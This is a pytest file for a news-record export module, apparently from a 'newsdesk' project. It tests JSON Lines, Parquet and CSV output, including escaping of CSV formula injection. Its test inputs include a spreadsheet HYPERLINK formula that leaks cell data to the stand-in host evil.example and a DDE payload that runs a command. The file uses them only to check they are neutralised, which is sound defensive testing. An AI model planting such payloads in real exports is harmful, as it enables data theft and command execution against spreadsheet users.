"""Export: JSON Lines and Parquet read back into the same records; CSV holds the flat fields."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pyarrow.parquet as pq
import pytest

from newsdesk.record import PageSource, Record
from newsdesk.store.export import CSV_COLUMNS, read_parquet, write_csv, write_jsonl, write_parquet

CORPUS = Path(__file__).parent.parent / "data" / "store" / "corpus.jsonl"


def corpus() -> list[Record]:
    return [Record.from_dict(json.loads(line)) for line in CORPUS.read_text("utf-8").splitlines()]


def test_jsonl_round_trips_every_field() -> None:
    out = io.StringIO()
    assert write_jsonl(corpus(), out) == 12
    lines = out.getvalue().splitlines()
    assert [Record.from_dict(json.loads(line)) for line in lines] == corpus()


def test_csv_has_one_flat_row_per_record() -> None:
    out = io.StringIO()
    assert write_csv(corpus(), out) == 12
    rows = list(csv.DictReader(io.StringIO(out.getvalue())))
    assert tuple(rows[0]) == CSV_COLUMNS
    for row, record in zip(rows, corpus(), strict=True):
        assert row["id"] == record.id
        assert row["title"] == record.title
        assert row["body"] == record.body  # newlines inside the body survive quoting
        assert row["tags"].split("; ") == list(record.tags)
        assert int(row["quotes"]) == len(record.quotes)
        assert row["published"] == record.published


def test_parquet_round_trips_and_has_typed_columns(tmp_path: Path) -> None:
    path = tmp_path / "records.parquet"
    assert write_parquet(corpus(), path) == 12
    assert read_parquet(path) == corpus()
    table = pq.read_table(path, columns=["id", "tags", "quotes"])
    assert table.column("id").to_pylist() == [r.id for r in corpus()]
    assert table.column("tags").to_pylist() == [list(r.tags) for r in corpus()]
    assert table.column("quotes").to_pylist() == [len(r.quotes) for r in corpus()]


def test_an_empty_export_is_a_valid_file(tmp_path: Path) -> None:
    path = tmp_path / "empty.parquet"
    assert write_parquet([], path) == 0
    assert read_parquet(path) == []
    out = io.StringIO()
    assert write_csv([], out) == 0
    assert out.getvalue().strip() == ",".join(CSV_COLUMNS)


def csv_row(record: Record) -> dict[str, str]:
    out = io.StringIO()
    write_csv([record], out)
    return next(csv.DictReader(io.StringIO(out.getvalue(), newline="")))


@pytest.mark.parametrize(
    "hostile",
    [
        '=HYPERLINK("http://evil.example/?"&A1, "Click")',
        "=1+1",
        "+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1:A9)",
        "\t=1+1",
        "\r=1+1",
        "-1e3 up",
    ],
)
def test_csv_cells_that_would_run_as_formulas_start_with_a_quote(hostile: str) -> None:
    record = Record(
        id="a1",
        source=PageSource(url="https://example.com/a1"),
        body=hostile,
        title=hostile,
        authors=(hostile, "Jane Doe"),
        tags=(hostile,),
        summary=hostile,
    )
    row = csv_row(record)
    for column in ("title", "body", "summary"):
        assert row[column] == "'" + hostile
    assert row["authors"] == f"'{hostile}; Jane Doe"
    assert row["tags"] == "'" + hostile
    assert row["id"] == "a1" and row["url"] == "https://example.com/a1"  # the rest as they were
    assert row["quotes"] == "0"  # numbers stay numbers


@pytest.mark.parametrize(
    "text",
    [
        "-3.2",
        "+1",
        "-0.5e-3",
        "Oil falls 3.2% = a two-year low",
        "Jane Doe; =SUM(A1)",  # a formula starts a cell or not at all
        "'=1+1",
        "first line\rsecond line",  # a CR inside a cell does not split the row
        "",
    ],
)
def test_csv_numbers_and_harmless_text_are_written_as_they_are(text: str) -> None:
    record = Record(id="a1", source=PageSource(), body=text, title=text)
    out = io.StringIO()
    write_csv([record, record], out)
    rows = list(csv.DictReader(io.StringIO(out.getvalue(), newline="")))
    assert [(r["title"], r["body"]) for r in rows] == [(text, text)] * 2
